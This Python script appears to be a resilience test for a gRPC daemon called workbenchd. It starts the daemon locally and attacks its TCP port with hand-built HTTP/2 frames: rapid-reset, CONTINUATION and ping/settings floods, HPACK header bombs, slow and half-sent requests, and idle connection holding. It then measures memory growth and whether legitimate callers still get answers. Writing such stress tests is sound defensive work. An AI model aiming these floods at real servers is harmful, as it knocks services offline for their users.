"""Attacks a daemon's TCP port with raw frames while a good client on TCP and the owner on the unix socket go on calling.

    attacks.py WORKBENCHD [--scale N] [--only NAME] [-- DAEMON OPTIONS]

Prints for each attack how far the daemon's memory grew, what was left 10 s after the end, and how the calls of the good
client and the owner fared. Exits with 1 when memory grew by more than 64 MiB, more than 16 MiB were left, or a call
failed. Needs grpcio-health-checking. An attack of scale 1 has the size with which such attacks hurt a bare gRPC core.
"""
import argparse
import os
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

import grpc
from grpc_health.v1 import health_pb2, health_pb2_grpc

MEBIBYTE = 1 << 20
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    return bytes([len(value)]) + value


def call(path=b"/grpc.health.v1.Health/Check"):
    named = ((b"content-type", b"application/grpc"), (b"te", b"trailers"))
    return (b"\x83\x86\x04" + text(path) + b"\x01" + text(b"localhost")
            + b"".join(b"\0" + text(name) + text(value) for name, value in named))


HELLO = PREFACE + frame(4)
ACKNOWLEDGE = frame(4, 1)
CALL = call()


class Attacker:
    """Sends to the port, on a new connection whenever the last one was closed."""

    def __init__(self, port, hello=HELLO + ACKNOWLEDGE):
        self.port, self.hello, self.socket, self.sent, self.closed = port, hello, None, 0, 0

    def send(self, data):
        """True if it went out on the connection of the last call."""
        fresh = self.socket is None
        try:
            if fresh:
                self.socket = socket.create_connection(("127.0.0.1", self.port), timeout=5)
                self.socket.sendall(self.hello)
            self.socket.sendall(data)
            self.sent += len(data)
        except OSError:
            self.close()
            return False
        return not fresh

    def close(self):
        if self.socket is not None:
            self.socket.close()
            self.closed += 1
        self.socket = None


def flood(port, total, chunk, hello=HELLO + ACKNOWLEDGE):
    """Sends chunks made for the call numbers 0, 1, ... of a connection until `total` bytes are out, or for 20 s."""
    attacker, number, end = Attacker(port, hello), 0, time.monotonic() + 20
    while attacker.sent < total and time.monotonic() < end:
        if attacker.socket is None:
            number = 0
        attacker.send(chunk(number))
        number += 1
    attacker.close()
    return f"{attacker.sent / MEBIBYTE:.0f} MiB on {attacker.closed} connections"


def stream(number, index, size):
    return 2 * (number * size + index) + 1


def rapid_reset(port, scale):
    def chunk(number):
        ids = (stream(number, index, 200) for index in range(200))
        return b"".join(frame(1, 4, id, CALL) + frame(3, 0, id, b"\0\0\0\x08") for id in ids)
    return flood(port, 16 * MEBIBYTE * scale, chunk)


def resets_within_limits(port, scale):
    """Resets as many calls as a connection may, then takes the next connection, eight at a time."""
    chunk = b"".join(frame(1, 4, id, CALL) + frame(3, 0, id, b"\0\0\0\x08") for id in range(1, 391, 2))
    end, counts = time.monotonic() + 4 + scale, []

    def run():
        count = 0
        while time.monotonic() < end:
            attacker = Attacker(port)
            attacker.send(chunk)
            attacker.close()
            count += 1
        counts.append(count)
    threads = [threading.Thread(target=run) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return f"{195 * sum(counts)} resets on {sum(counts)} connections"


def continuation(port, scale):
    block = b"".join(b"\0" + text(b"x-%06d" % index) + text(b"v" * 100) for index in range(60))
    more = frame(9, 0, 1, block)
    return flood(port, 40 * MEBIBYTE * scale, lambda n: frame(1, 0, 1, CALL) if n == 0 else more * 20)


def unacknowledged(port, scale):
    large = CALL + b"".join(b"\0" + text(b"x-%06d" % index) + text(b"v" * 120) for index in range(60))

    def chunk(number):
        return b"".join(frame(1, 4, stream(number, index, 20), large) for index in range(20))
    return flood(port, 4 * MEBIBYTE * scale, chunk, HELLO)


def header_bombs(port, scale):
    # One entry of HPACK's dynamic table, then thousands of references of one byte each.
    bomb = CALL + b"\x40" + text(b"x-bomb") + text(b"v" * 126) + b"\xbe" * 12000

    def chunk(number):
        return b"".join(frame(1, 4, stream(number, index, 20), bomb) for index in range(20))
    return flood(port, 4 * MEBIBYTE * scale, chunk)


def pings(port, scale):
    return flood(port, 2 * MEBIBYTE * scale, lambda n: frame(6, 0, 0, b"12345678") * 1000)


def settings(port, scale):
    return flood(port, 2 * MEBIBYTE * scale, lambda n: frame(4, 0, 0, b"\0\4\0\0\xff\xff") * 1000)


def hold(port, count, data):
    """Opens many connections, sends the same on each, and holds them for some seconds."""
    held = []
    for _ in range(count):
        attacker = Attacker(port, b"")
        attacker.send(data)
        held.append(attacker)
    time.sleep(8)
    for attacker in held:
        attacker.close()
    return f"{count} connections"


def silent(port, scale):
    return hold(port, 300 * scale, b"")


def idle(port, scale):
    return hold(port, 300 * scale, HELLO + ACKNOWLEDGE)


def slow(port, scale):
    """Headers that come byte by byte and never end."""
    attackers = [Attacker(port) for _ in range(100)]
    data = frame(1, 0, 1, CALL * 4)
    end = time.monotonic() + 8
    for byte in range(len(data)):
        for attacker in attackers:
            attacker.send(data[byte:byte + 1])
        time.sleep(0.02)
        if time.monotonic() > end:
            break
    for attacker in attackers:
        attacker.close()
    return f"{len(attackers)} connections"


def half_sent(port, scale):
    attacker = Attacker(port)
    for number in range(5000 * scale // 50):
        attacker.send(b"".join(
            frame(1, 4, stream(number, index, 50), CALL) + frame(0, 0, stream(number, index, 50), b"\0\0\x10\0\0" + b"x" * 200)
            for index in range(50)))
        if attacker.socket is None:
            break
    spread = [Attacker(port) for _ in range(40)]
    for other in spread:
        other.send(b"".join(frame(1, 4, 2 * index + 1, CALL) for index in range(200)))
    large = b"".join(
        frame(1, 4, 2 * index + 1, CALL) + frame(0, 0, 2 * index + 1, b"\0\0\x3f\0\0" + b"x" * 16000)
        + frame(0, 0, 2 * index + 1, b"x" * 16000) for index in range(100))
    for _ in range(20 * scale):
        other = Attacker(port, HELLO + ACKNOWLEDGE)
        other.send(large)
        spread.append(other)
    time.sleep(5)
    for other in spread + [attacker]:
        other.close()
    return f"{5000 * scale} calls on one connection, {len(spread)} connections with up to 200"


def readers(port, scale):
    """Asks reflection for large answers and never reads them."""
    name = b"workbench.v1.Generation"
    message = b"\x22" + text(name)
    ask = frame(0, 0, 1, b"\0" + struct.pack(">I", len(message)) + message)
    attackers = [Attacker(port) for _ in range(20 * scale)]
    for attacker in attackers:
        attacker.send(frame(1, 4, 1, call(b"/grpc.reflection.v1.ServerReflection/ServerReflectionInfo")))
        attacker.socket and attacker.socket.settimeout(0.2)
        for _ in range(200):
            if not attacker.send(ask * 20):
                break
    time.sleep(5)
    for attacker in attackers:
        attacker.close()
    return f"{len(attackers)} readers"


ATTACKS = [rapid_reset, resets_within_limits, continuation, unacknowledged, header_bombs, pings, settings, silent, idle,
           slow, half_sent, readers]


class Caller(threading.Thread):
    """Calls Health.Check again and again, on one connection and on new ones in turn."""

    def __init__(self, target):
        super().__init__(daemon=True)
        self.target, self.over = target, False
        self.answers, self.failures, self.longest = 0, [], 0.0

    def check(self, channel):
        start = time.monotonic()
        try:
            health_pb2_grpc.HealthStub(channel).Check(health_pb2.HealthCheckRequest(), timeout=20, wait_for_ready=True)
        except grpc.RpcError as error:
            # A refusal by the daemon is an answer too.
            if error.code() in (grpc.StatusCode.UNAVAILABLE, grpc.StatusCode.DEADLINE_EXCEEDED):
                self.failures.append(f"{error.code().name}: {error.details()}")
                return
        self.answers += 1
        self.longest = max(self.longest, time.monotonic() - start)

    def run(self):
        options = [("grpc.use_local_subchannel_pool", 1)]
        with grpc.insecure_channel(self.target, options) as kept:
            while not self.over:
                self.check(kept)
                with grpc.insecure_channel(self.target, options) as fresh:
                    self.check(fresh)
                time.sleep(0.02)


def resident(pid):
    with open(f"/proc/{pid}/status") as status:
        return next(int(line.split()[1]) / 1024 for line in status if line.startswith("VmRSS"))


def attempt(attack, pid, port, path, scale):
    """Runs one attack; True if the daemon held."""
    before, peak, over = resident(pid), [0.0], threading.Event()

    def watch():
        while not over.is_set():
            peak[0] = max(peak[0], resident(pid))
            time.sleep(0.01)
    callers = {"client": Caller(f"127.0.0.1:{port}"), "owner": Caller(f"unix:{path}")}
    watcher = threading.Thread(target=watch, daemon=True)
    watcher.start()
    for caller in callers.values():
        caller.start()
    start = time.monotonic()
    size = attack(port, scale)
    seconds = time.monotonic() - start
    end = time.monotonic() + 10
    while time.monotonic() < end and resident(pid) > before + 1:
        time.sleep(0.1)
    left = resident(pid) - before
    for caller in callers.values():
        caller.over = True
        caller.join()
    over.set()
    watcher.join()
    grown = peak[0] - before
    print(f"{attack.__name__}: {size} in {seconds:.1f} s; memory +{grown:.0f} MiB, then +{left:.0f} MiB; " + "; ".join(
        f"{name} {caller.answers} answers, longest {caller.longest * 1000:.0f} ms, {len(caller.failures)} failures"
        for name, caller in callers.items()), flush=True)
    for name, caller in callers.items():
        for failure in caller.failures[:3]:
            print(f"  {name}: {failure}")
    return grown <= 64 and left <= 16 and all(
        caller.answers > 0 and not caller.failures for caller in callers.values())


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("workbenchd")
    parser.add_argument("--scale", type=int, default=10)
    parser.add_argument("--only")
    own, options = sys.argv[1:], []
    if "--" in own:
        own, options = own[:own.index("--")], own[own.index("--") + 1:]
    arguments = parser.parse_args(own)
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, "d.sock")
        daemon = subprocess.Popen(
            [arguments.workbenchd, "--socket", path, "--listen", f"127.0.0.1:{port}", "--log-level", "error", *options],
            env={**os.environ, "XDG_DATA_HOME": folder, "XDG_STATE_HOME": folder})
        try:
            with grpc.insecure_channel(f"unix:{path}") as channel:
                grpc.channel_ready_future(channel).result(timeout=60)
            time.sleep(1)
            held = [attempt(attack, daemon.pid, port, path, arguments.scale) for attack in ATTACKS
                    if arguments.only in (None, attack.__name__)]
        finally:
            daemon.send_signal(signal.SIGKILL)
            daemon.wait()
    print("held" if all(held) else "not held")
    sys.exit(0 if all(held) else 1)


if __name__ == "__main__":
    main()
